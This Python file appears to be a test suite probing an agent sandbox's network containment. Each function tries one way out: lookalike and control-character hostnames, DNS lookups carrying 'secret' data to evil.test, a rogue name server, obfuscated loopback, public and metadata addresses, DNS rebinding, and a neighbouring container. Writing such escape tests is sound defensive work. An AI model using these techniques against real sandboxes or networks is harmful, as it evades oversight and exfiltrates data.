"""Attempts by the name or the address of the destination."""

from __future__ import annotations

import socket
import struct
from functools import partial

from .ways import (
    FACTS,
    PUBLIC,
    PUBLIC_IPV6,
    attempt,
    connect,
    each,
    get,
    hello,
    read_all,
    say,
    socks,
    tunnel,
    tunnels,
)


@attempt("a name that is not allowed")
def _() -> str:
    return each(
        lambda: tunnel(b"other.test:443"),
        lambda: say(socket.gethostbyname("other.test"), 80, get("other.test")),
        lambda: say(socket.gethostbyname("other.test"), 443, hello("other.test")),
    )


@attempt("a name that ends or begins like an allowed one")
def _() -> str:
    return tunnels(("evilindex.test", "index.test.evil.test", "index.testx", "sub.index.test", "wild.test"))


@attempt("a name with two dots at its end, or an empty label")
def _() -> str:
    return tunnels(("index.test..", "index..test", ".index.test"))


@attempt("a name with NUL, line ends, spaces or other control characters")
def _() -> str:
    names = (b"index.test\0.other.test", b"index.test\r\nx", b"index.test other.test", b"\x1bindex.test")
    return each(*(partial(socks, name) for name in names))


@attempt("an international name that looks like an allowed one")
def _() -> str:
    return tunnels(("xn--ndex-tpa.test", "index.xn--tst-qla"))


@attempt("another port of an allowed name")
def _() -> str:
    return each(lambda: tunnel(b"db.internal:22"), lambda: tunnel(b"a.wild.test:80"))


@attempt("many names that carry data, in lookups and connections")
def _() -> str:
    for number in range(40):
        socket.gethostbyname(f"{number}-{'secret' * 8}.evil.test")
    return tunnels(f"{number}-{'secret' * 8}.evil.test" for number in range(3))


@attempt("another name server")
def _() -> str:
    query = struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + b"\x06secret\x04evil\x04test\0\0\x01\0\x01"

    def by_packet() -> str:
        with connect((PUBLIC, 53), socket.SOCK_DGRAM) as connected:
            connected.send(query)
            return read_all(connected)

    return each(
        by_packet,
        lambda: say(PUBLIC, 53, struct.pack("!H", len(query)) + query),
        lambda: tunnel(f"{PUBLIC}:53".encode()),
    )


@attempt("a public address, in any notation, through the proxy")
def _() -> str:
    notations = ("1.1.1.1", "1.1", "16843009", "0x01010101", "0x1.1", "01.01.01.01", "[2606:4700::1111]")
    mapped = ("[::ffff:1.1.1.1]", "[::ffff:101:101]", "[64:ff9b::101:101]", "[2002:101:101::]")
    return tunnels((*notations, *mapped))


@attempt("a public address without the proxy")
def _() -> str:
    return each(*(partial(say, host, 443, b"x") for host in (PUBLIC, PUBLIC_IPV6)))


@attempt("an address in SOCKS5")
def _() -> str:
    four, six = socket.inet_aton(PUBLIC), socket.inet_pton(socket.AF_INET6, PUBLIC_IPV6)
    mapped = socket.inet_pton(socket.AF_INET6, f"::ffff:{PUBLIC}")
    return each(lambda: socks(four, kind=1), lambda: socks(six, kind=4), lambda: socks(mapped, kind=4))


@attempt("an IPv6 address with a zone")
def _() -> str:
    return tunnels(("[fe80::1%25eth0]", "[fe80::1%eth0]", "[::1%lo]"))


@attempt("the host's loopback and this server")
def _() -> str:
    port = FACTS["host_port"]
    hosts = ("127.0.0.1", "127.1", "2130706433", "0x7f000001", "0177.0.0.1", "0", "0.0.0.0", "localhost")
    six = ("[::1]", "[::]", "[::ffff:127.0.0.1]", "[0:0:0:0:0:0:0:1]", "host.docker.internal")
    direct = ("127.0.0.1", "127.0.0.2", "0.0.0.0", "::1", "::ffff:127.0.0.1")
    return each(
        *(partial(tunnel, f"{host}:{port}".encode()) for host in (*hosts, *six)),
        *(partial(say, host, port, b"x") for host in direct),
    )


@attempt("an allowed name that leads to a loopback, private or metadata address")
def _() -> str:
    return tunnels(("loopback.test", "private.test", "metadata.test", "mapped.test"))


@attempt("a DNS answer that changes after the first connection")
def _() -> str:
    return each(*[partial(tunnel, b"rebind.test:5000", b"\xff" * 4)] * 2)


@attempt("an allowed name that leads to this machine's own public address")
def _() -> str:
    return tunnels(("own.test",))


@attempt("another container")
def _() -> str:
    def abstract() -> str:
        with socket.socket(socket.AF_UNIX) as connected:
            connected.connect("\0agent-kernel-neighbour")
            return "connected"

    port = FACTS["neighbour_port"]
    name = FACTS["neighbour"]
    return each(
        lambda: say("127.0.0.1", port, b"x"),
        lambda: tunnel(f"{name}:{port}".encode()),
        lambda: tunnel(f"172.17.0.2:{port}".encode()),
        lambda: say("172.17.0.2", port, b"x"),
        abstract,
    )
